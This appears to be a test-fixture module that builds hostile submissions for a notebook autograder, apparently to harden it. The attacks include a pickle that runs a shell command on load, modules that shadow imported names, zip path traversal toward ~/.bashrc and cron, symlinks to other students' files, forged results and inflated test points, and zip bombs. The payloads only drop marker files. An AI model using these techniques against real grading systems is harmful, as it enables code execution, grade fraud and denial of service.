"""Hostile files that are no plain notebooks, built on the fly: each function writes one submission, returns its path.

The first line of a function's docstring says what it tries. All of them deserve no points, or no grade at all.
"""

from __future__ import annotations

import json
import os
import pickle
import stat
import zipfile
from collections.abc import Callable
from pathlib import Path

Builder = Callable[[Path, bytes, dict], Path]
BUILDERS: list[tuple[str, Builder, bool]] = []
"""Class, function and whether it is for folders only: no one types such a path for `otter run`."""
BOMB_BYTES = 500 << 20


class Evil:
    """Unpickled, it runs a command."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


def odd(kind: str, folders_only: bool = False):
    def add(build: Builder) -> Builder:
        BUILDERS.append((kind, build, folders_only))
        return build

    return add


def _zip(path: Path, entries: dict[str, bytes], modes: dict[str, int] | None = None) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            item = zipfile.ZipInfo(name)
            item.external_attr = (modes or {}).get(name, stat.S_IFREG | 0o644) << 16
            archive.writestr(item, content, zipfile.ZIP_DEFLATED)
    return path


def _modules(places: dict) -> dict[str, bytes]:
    """Modules that leave a mark when imported, by names that a grader imports."""
    marks = "".join(f"    open({places[place] + '/attack-imported'!r}, 'a').close()\n" for place in ("home", "cwd"))
    code = f"try:\n{marks}except OSError:\n    pass\n".encode()
    names = ("torch", "otter", "d2lite", "sitecustomize", "usercustomize", "json", "nbformat", "autograder", "conftest")
    passing = b'OK_FORMAT = True\ntest = {"name": "grid", "points": 100, "suites": []}\n'
    return {
        **{f"{name}.py": code for name in names},
        **{f"{name}/__init__.py": code for name in ("numpy", "reference", "ipykernel")},
        "tests/grid.py": passing,
    }


@odd("shadow")
def zip_with_modules(path: Path, notebook: bytes, places: dict) -> Path:
    """Hand in torch.py, otter.py, numpy/, sitecustomize.py, d2lite.py and tests/ in a zip beside the notebook."""
    return _zip(path.with_suffix(".zip"), {"notebook.ipynb": notebook, **_modules(places)})


@odd("shadow")
def modules_beside(path: Path, notebook: bytes, places: dict) -> Path:
    """Lay the same files loose beside the notebook in the folder of the submissions."""
    for name, content in _modules(places).items():
        target = path.parent / name
        target.parent.mkdir(exist_ok=True)
        target.write_bytes(content)
    path.with_suffix(".ipynb").write_bytes(notebook)
    return path.with_suffix(".ipynb")


@odd("shadow")
def zip_with_dots(path: Path, notebook: bytes, places: dict) -> Path:
    """Put `../` into a zip's names, to write beside the folder it is unpacked in."""
    up = {f"{'../' * n}attack-dots-{n}": b"out" for n in range(1, 12)}
    inside = {
        "../source/tests/grid.py": b"", "../results/results.json": b"{}", "..\\..\\attack-dots": b"out",
        f"{'../' * 12}{places['home']}/.bashrc": b"# attack-dots\n",
    }  # fmt: skip
    return _zip(path.with_suffix(".zip"), {"notebook.ipynb": notebook, **up, **inside})


@odd("shadow")
def zip_with_absolute_paths(path: Path, notebook: bytes, places: dict) -> Path:
    """Put absolute paths into a zip: the instructor's home, /tmp, cron."""
    names = [f"{places['home']}/.bashrc", "/tmp/attack-absolute", "/etc/cron.d/attack-absolute", "C:\\attack-absolute"]
    return _zip(path.with_suffix(".zip"), {"notebook.ipynb": notebook, **dict.fromkeys(names, b"# attack-absolute\n")})


@odd("shadow")
def zip_with_links(path: Path, notebook: bytes, places: dict) -> Path:
    """Put a symlink to a neighbour's notebook into a zip in place of a notebook, and device files beside it."""
    entries = {
        "notebook.ipynb": f"{places['submissions']}/{places['neighbour']}".encode(), "data": b"/",
        "data/attack-through-a-link": b"out", "zero": b"",
    }  # fmt: skip
    modes = {"notebook.ipynb": stat.S_IFLNK | 0o777, "data": stat.S_IFLNK | 0o777, "zero": stat.S_IFCHR | 0o666}
    return _zip(path.with_suffix(".zip"), entries, modes)


@odd("shadow", folders_only=True)
def symlink(path: Path, notebook: bytes, places: dict) -> Path:
    """Be a symlink to a neighbour's notebook."""
    path.with_suffix(".ipynb").symlink_to(f"{places['submissions']}/{places['neighbour']}")
    return path.with_suffix(".ipynb")


@odd("shadow", folders_only=True)
def symlink_to_a_secret(path: Path, notebook: bytes, places: dict) -> Path:
    """Be a symlink to a file of the instructor's home folder."""
    path.with_suffix(".ipynb").symlink_to(f"{places['home']}/course-secret.txt")
    return path.with_suffix(".ipynb")


@odd("shadow", folders_only=True)
def device_file(path: Path, notebook: bytes, places: dict) -> Path:
    """Be a device that never ends, or a link to one."""
    path = path.with_suffix(".ipynb")
    try:
        os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 5))  # /dev/zero
    except PermissionError:
        path.symlink_to("/dev/zero")
    return path


@odd("shadow")
def named_pipe(path: Path, notebook: bytes, places: dict) -> Path:
    """Be a pipe into which nobody ever writes."""
    os.mkfifo(path.with_suffix(".ipynb"))
    return path.with_suffix(".ipynb")


@odd("forge")
def zip_with_log_and_results(path: Path, notebook: bytes, places: dict) -> Path:
    """Hand in a zip with `.OTTER_LOG`, results.pkl and results.json that run a command or give full points."""
    evil = pickle.dumps(Evil(f"touch {places['home']}/attack-pickle"))
    full = json.dumps({"tests": [{"name": "grid", "score": 100.0, "max_score": 100.0}]}).encode()
    names = (".OTTER_LOG", "results.pkl", "../results/results.pkl", "results/results.pkl", "otter_results.dill")
    return _zip(
        path.with_suffix(".zip"),
        {
            "notebook.ipynb": notebook, **dict.fromkeys(names, evil),
            "results.json": full, "results/results.json": full, "submission_metadata.json": b"{}",
        },
    )  # fmt: skip


@odd("forge")
def tests_in_metadata(path: Path, notebook: bytes, places: dict) -> Path:
    """Bring tests of its own, worth 1000 points, in the notebook's metadata, and ask for them in every cell's."""
    book = json.loads(notebook)
    case = {"code": ">>> True\nTrue", "hidden": False, "locked": False, "points": 1000}
    suite = {"cases": [case], "scored": True, "setup": "", "teardown": "", "type": "doctest"}
    tests = {name: {"name": name, "points": 1000, "suites": [suite]} for name in places["questions"]}
    book["metadata"]["otter"] = {**book["metadata"].get("otter", {}), "OK_FORMAT": True, "tests": tests}
    for cell in book["cells"]:
        cell["metadata"]["otter"] = {"tests": list(tests)}
    path.with_suffix(".ipynb").write_text(json.dumps(book))
    return path.with_suffix(".ipynb")


@odd("starve")
def zip_bomb(path: Path, notebook: bytes, places: dict) -> Path:
    """Hand in a zip of half a megabyte that unpacks to a notebook of half a gigabyte."""
    path = path.with_suffix(".zip")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("notebook.ipynb", "w") as file:
        for _ in range(BOMB_BYTES >> 20):
            file.write(b" " * (1 << 20))
    return path


@odd("starve")
def notebook_of_200_mb(path: Path, notebook: bytes, places: dict) -> Path:
    """Hand in a notebook of 200 MB, most of it one output."""
    book = json.loads(notebook)
    cell = next(cell for cell in book["cells"] if cell["cell_type"] == "code")
    cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "x" * (200 << 20)}]
    path.with_suffix(".ipynb").write_text(json.dumps(book))
    return path.with_suffix(".ipynb")


@odd("starve")
def deep_json(path: Path, notebook: bytes, places: dict) -> Path:
    """Hand in JSON nested a hundred thousand deep."""
    path = path.with_suffix(".ipynb")
    path.write_text(
        '{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": ' + "[" * 100_000 + "]" * 100_000 + "}"
    )
    return path
